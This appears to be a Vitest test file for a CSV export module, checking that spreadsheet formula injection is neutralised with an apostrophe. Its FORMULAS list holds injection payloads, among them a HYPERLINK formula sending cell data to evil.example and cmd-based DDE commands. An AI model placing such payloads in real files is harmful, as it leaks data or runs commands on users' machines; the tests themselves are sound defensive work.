import { describe, expect, it } from 'vitest';
import { csvField, csvText, spreadsheetText } from './download.ts';
import { cellsThatRun, openAsSpreadsheet } from '#shared/testing/spreadsheet.ts';

/** Texts a spreadsheet would run, in the spellings tried: each of OWASP's signs, after spaces or controls, full width. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '  +1',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '\u0000=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "=cmd|' /C notepad'!'A1'",
  '-',
];

describe('downloads', () => {
  it('quotes fields with commas, quotes or line breaks, doubling the quotes', () => {
    expect(csvField('plain text')).toBe('plain text');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(67)).toBe('67');
  });

  it('quotes a field with a semicolon, a tab or a bar, where other locales and readers split cells', () => {
    expect(csvField('a;=1+1')).toBe('"a;=1+1"');
    expect(csvField('a\t=1+1')).toBe('"a\t=1+1"');
    expect(csvField('a|=1+1')).toBe('"a|=1+1"');
    const csv = csvText([['note'], ['a;=1+1'], ['a\t=1+1'], ['a|=1+1']]);
    expect(cellsThatRun(csv)).toEqual([]);
    expect(openAsSpreadsheet(csv).map((cell) => cell.text)).toEqual(['note', 'a;=1+1', 'a\t=1+1', 'a|=1+1']);
  });

  it('writes a CSV text with CRLF after every line, the last included', () => {
    expect(
      csvText([
        ['a', 'b'],
        ['1, 2', 3],
      ]),
    ).toBe('a,b\r\n"1, 2",3\r\n');
  });

  it.each(FORMULAS)('makes %j a text that reads as written, behind an apostrophe', (text) => {
    expect(spreadsheetText(text)).toBe(`'${text}`);
  });

  it.each(['Plain words', 'a = b', 'e-mail: ada@example.com', '1+1', "'quoted", '', 'æ, ø og å'])(
    'leaves %j as it is',
    (text) => {
      expect(spreadsheetText(text)).toBe(text);
    },
  );

  it('keeps the figures numbers, negative ones included', () => {
    expect(csvField(-3)).toBe('-3');
    expect(csvField(0)).toBe('0');
  });

  it('writes a file in which a spreadsheet finds no formula, and every text as it was written', () => {
    const csv = csvText([['note'], ...FORMULAS.map((text) => [text])]);
    expect(cellsThatRun(csv)).toEqual([]);
    const texts = openAsSpreadsheet(csv)
      .filter((cell) => cell.address !== 'A1')
      .map((cell) => cell.text);
    expect(texts).toEqual(FORMULAS.map((text) => `'${text}`));
  });

  it('is what a spreadsheet would run without the rule (the test can fail)', () => {
    const unguarded = `note\r\n${FORMULAS.slice(0, 5)
      .map((text) => `"${text.replaceAll('"', '""')}"`)
      .join('\r\n')}\r\n`;
    expect(cellsThatRun(unguarded).map((cell) => cell.address)).toEqual(['A2', 'A3', 'A4', 'A5', 'A6']);
  });
});
